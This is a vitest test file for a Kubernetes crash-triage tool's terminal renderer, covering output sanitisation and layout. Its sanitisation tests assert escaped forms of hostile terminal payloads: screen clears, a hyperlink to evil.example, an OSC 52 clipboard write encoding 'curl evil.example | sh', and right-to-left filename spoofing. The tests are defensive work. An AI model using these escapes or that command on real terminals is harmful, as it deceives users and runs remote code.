import { describe, expect, it } from 'vitest';
import { render } from '../../src/render/terminal.js';
import { displayWidth, neutralize } from '../../src/render/sanitize.js';
import { causeFindings, escalatingReport, multiBundleReport, nonEscalatingReport, reportWith, sameMemoryOomCheck } from './fixtures.js';
import { TERMINAL_PAYLOADS, hostileReport } from './hostile.js';

const plain = { color: false, width: 100 };

/** Every code point a terminal acts on: C0 but newline, DEL, C1, bidi controls, zero-width and BOM. */
// eslint-disable-next-line no-control-regex -- the control characters are what the tests look for
const UNSAFE_FOR_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;
// eslint-disable-next-line no-control-regex -- an SGR sequence starts with ESC
const SGR = /\x1b\[[0-9;]*m/g;

describe('terminal view: control characters from the bundle', () => {
  it('never lets a control character of a log line, name or message reach the output', () => {
    const output = render(hostileReport(), plain);
    expect(output).not.toMatch(UNSAFE_FOR_TERMINAL);
    // Each attack is still visible, as text.
    expect(output).toContain('\\x1b[2J\\x1b[H');
    expect(output).toContain('\\x1b]8;;https://evil.example/\\x07click here');
    expect(output).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(output).toContain('safe\\u202etxt.exe\\u202c');
    expect(output).toContain('\\u2066isolate\\u2069');
    expect(output).toContain('ding\\x07');
    expect(output).toContain('all good\\x0dFAILED');
    expect(output).toContain('\\x9b31mred');
    expect(output).toContain('ad\\u200bmin\\ufeff');
    expect(output).toContain('x\\x7fy');
  });

  it('with colour on, the only escapes in the output are its own SGR colour codes', () => {
    const output = render(hostileReport(), { color: true, width: 100 });
    expect(output).toMatch(SGR);
    expect(output.replace(SGR, '')).not.toMatch(UNSAFE_FOR_TERMINAL);
  });

  it('emits colour codes only when asked to', () => {
    for (const report of [escalatingReport, nonEscalatingReport, multiBundleReport]) {
      expect(render(report, { color: false, width: 100 })).not.toContain('\x1b');
      expect(render(report, { color: true, width: 100 })).toMatch(SGR);
    }
  });

  it('neutralises every payload on its own, with a visible escape in its place', () => {
    for (const [name, payload] of Object.entries(TERMINAL_PAYLOADS)) {
      const shown = neutralize(payload);
      expect(shown, name).not.toMatch(UNSAFE_FOR_TERMINAL);
      expect(shown, name).toMatch(/\\(x[0-9a-f]{2}|u[0-9a-f]{4})/);
    }
    expect(neutralize('\u{e0041}tag')).toBe('\\u{e0041}tag');
    expect(neutralize('\ud800 lone surrogate')).toBe('\\ud800 lone surrogate');
    expect(neutralize('\tat com.example.Main.main(Main.java:12)')).toBe('    at com.example.Main.main(Main.java:12)');
    expect(neutralize('plain ünïcödé, 中文, emoji 🚀')).toBe('plain ünïcödé, 中文, emoji 🚀');
  });
});

describe('terminal view: layout', () => {
  it('keeps every line within the width it is given, but for code, which is never wrapped', () => {
    for (const width of [60, 80, 100, 140]) {
      for (const report of [escalatingReport, nonEscalatingReport, multiBundleReport, hostileReport()]) {
        for (const details of [false, true]) {
          const code = new Set(
            report.findings.flatMap((f) => (f.fix.snippet ? f.fix.snippet.code.split('\n').map((line) => neutralize(line).trim()) : [])),
          );
          // A name is never cut either: the hostile report's names are longer than any terminal, and run on.
          const names = report.findings.map((f) => neutralize(`${f.namespace}/${f.workload.name || f.pod}`)).filter((n) => displayWidth(n) > width / 2);
          const over = render(report, { color: false, width, details })
            .split('\n')
            .filter((line) => displayWidth(line) > width && !code.has(line.trim()) && !names.some((n) => line.includes(n)));
          expect(over, `width ${width}, details ${String(details)}`).toEqual([]);
        }
      }
    }
  });

  it('prints a YAML snippet or command whole, however narrow the terminal', () => {
    const long = 'kubectl -n shop set resources deployment/api --containers=api --requests=memory=384Mi --limits=memory=512Mi';
    const base = causeFindings['oom-killed'];
    const report = reportWith([{ ...base, fix: { ...base.fix, snippet: { language: 'shell', code: `${long}\n` } } }]);
    const output = render(report, { color: false, width: 60, details: true });
    expect(output.split('\n').map((line) => line.trim())).toContain(long);
  });

  it('never cuts a pod or workload name: columns go first', () => {
    const name = 'a-very-long-workload-name-that-a-helm-chart-made-up-0123456789';
    const report = reportWith([{ ...causeFindings['oom-killed'], workload: { kind: 'Deployment', name } }]);
    for (const width of [40, 60, 80]) {
      const output = render(report, { color: false, width });
      expect(output, `width ${width}`).toContain(`shop/${name}`);
    }
    // At 60 columns the RESTARTS column is dropped rather than the name.
    expect(render(report, { color: false, width: 60 })).not.toContain('RESTARTS');
    expect(render(report, { color: false, width: 140 })).toContain('RESTARTS');
  });

  it('puts the verdict in the first line and again in the last, with the checks, groups and fixes between', () => {
    const output = render(escalatingReport, plain);
    const lines = output.trimEnd().split('\n');
    expect(lines[0]).toBe('ESCALATE TO PLATFORM/SRE · 2 checks fired · 6 crashing containers in 6 groups · 1 bundle');
    expect(lines.at(-1)).toBe(lines[0]);
    expect(lines[1]).toMatch(/^ {2}• same-memory-oom: 3 unrelated workloads/);
    const checks = output.indexOf('Escalation checks that fired (2)');
    const groups = output.indexOf('Crashing containers (6), by workload');
    const fixes = output.indexOf('Team-side fixes');
    expect(checks).toBeGreaterThan(0);
    expect(groups).toBeGreaterThan(checks);
    expect(fixes).toBeGreaterThan(groups);
    // The summary holds no evidence block; --details does, most severe first.
    expect(output).not.toMatch(/^\d+\. [a-z-]+ · /m);
    const detailed = render(escalatingReport, { ...plain, details: true });
    const order = [...detailed.matchAll(/^\d+\. ([a-z-]+) · /gm)].map((match) => match[1]);
    expect(order).toEqual(['oom-killed', 'oom-killed', 'oom-killed', 'liveness-probe-failure', 'missing-config', 'boot-dependency-unavailable']);
    expect(detailed.trimEnd().split('\n').at(-1)).toBe(lines[0]);
  });

  it('says plainly when nothing escalates, and lists the team-side fixes', () => {
    const output = render(nonEscalatingReport, plain);
    expect(output.startsWith('NO ESCALATION: THE FIX LIVES WITH THE APPLICATION TEAM · ')).toBe(true);
    expect(output).toContain('Team-side fixes');
    expect(output).toContain(`  • ${causeFindings['missing-config'].fix.summary}`);
  });

  it('shows an identical fix once, with every workload it is for', () => {
    const base = causeFindings['liveness-probe-failure'];
    const apps = ['cart', 'catalog', 'search', 'orders', 'ledger'];
    const report = reportWith(apps.map((app, i) => ({ ...base, id: `0/shop/${app}-x/${app}`, pod: `${app}-x`, container: app, workload: { kind: 'Deployment', name: app }, severity: 90 - i })));
    const output = render(report, { ...plain, width: 200 });
    expect(output.split(base.fix.summary)).toHaveLength(2);
    expect(output).toContain(`← ${apps.map((app) => `shop/${app}`).join(', ')}`);
    // --details writes the steps out once too; the other blocks point back to the first.
    const detailed = render(report, { ...plain, width: 200, details: true });
    expect(detailed.split(base.fix.steps[0]!).length - 1).toBe(1);
    expect(detailed.split(`fix        the same as #1: ${base.fix.summary}`).length - 1).toBe(apps.length - 1);
  });

  it('groups fifty crashed pods of a dozen Jobs into a dozen lines, the whole view within 120 lines', () => {
    const base = causeFindings['oom-killed'];
    const findings = Array.from({ length: 50 }, (_, i) => {
      const job = `nightly-etl-${String(i % 12).padStart(2, '0')}`;
      const pod = `${job}-29${String(100000 + i)}-${'abcdefghjk'.charAt(i % 10)}x7q2`;
      return { ...base, id: `0/batch/${pod}/etl`, namespace: 'batch', pod, container: 'etl', workload: { kind: 'Job', name: job }, severity: 90 - (i % 12), restartCount: 0 };
    });
    const report = reportWith(findings, { escalation: { ...escalatingReport.escalation, checks: [sameMemoryOomCheck] } });
    for (const width of [80, 120]) {
      const lines = render(report, { color: false, width }).trimEnd().split('\n');
      expect(lines.length, `width ${width}`).toBeLessThanOrEqual(120);
      expect(lines.slice(0, 4).join('\n')).toMatch(/^ESCALATE TO PLATFORM\/SRE/);
      expect(lines.slice(-4).join('\n')).toContain('ESCALATE TO PLATFORM/SRE');
      const jobLines = lines.filter((line) => /^ {2}batch\/nightly-etl-\d\d /.test(line));
      expect(jobLines).toHaveLength(12);
      // 50 pods over 12 Jobs: the PODS column (the third) adds up to 50.
      const pods = jobLines.map((line) => Number(line.trim().split(/ {2,}/)[2]));
      expect(pods.reduce((a, b) => a + b, 0)).toBe(50);
    }
  });

  it('shows the decisive log line with its number in --details', () => {
    const output = render(reportWith([causeFindings['boot-dependency-unavailable']]), { ...plain, details: true });
    expect(output).toContain('3 │ panic: dial tcp 10.96.14.202:5432: connect: connection refused');
  });

  it('orders ties by namespace, pod and container', () => {
    const a = { ...causeFindings.unknown, namespace: 'b', severity: 50 };
    const b = { ...causeFindings.unknown, namespace: 'a', pod: 'z', workload: { kind: '', name: '' }, severity: 50 };
    const c = { ...causeFindings.unknown, namespace: 'a', pod: 'y', workload: { kind: '', name: '' }, severity: 50 };
    const output = render(reportWith([a, b, c]), { ...plain, details: true });
    const pods = [...output.matchAll(/^\d+\. unknown · ([a-z]+\/[a-z0-9-]+) /gm)].map((m) => m[1]);
    expect(pods).toEqual(['a/y', 'a/z', 'b/mailer-6c5b4a3d2-qq7rr']);
    const summary = render(reportWith([a, b, c]), plain);
    expect(summary.indexOf('  a/y')).toBeLessThan(summary.indexOf('  a/z'));
  });

  it('reports analyzer errors and an empty report', () => {
    const report = reportWith([], { errors: [{ rule: 'oom-killed', bundle: 'b.tar.gz', target: 'shop/api', message: 'boom' }] });
    const output = render(report, plain);
    expect(output).toContain('no container is crash-looping or restarting in these bundles');
    expect(output).toContain('Analyzer errors (1)');
    expect(output).toContain('oom-killed on b.tar.gz shop/api: boom');
  });

  it('says when a filter hides findings', () => {
    const output = render(escalatingReport, { ...plain, filtered: { total: 40, description: 'namespace shop' } });
    expect(output.split('\n').slice(0, 5).join('\n')).toContain('filtered (namespace shop): 6 of 40 crashing containers shown');
  });
});
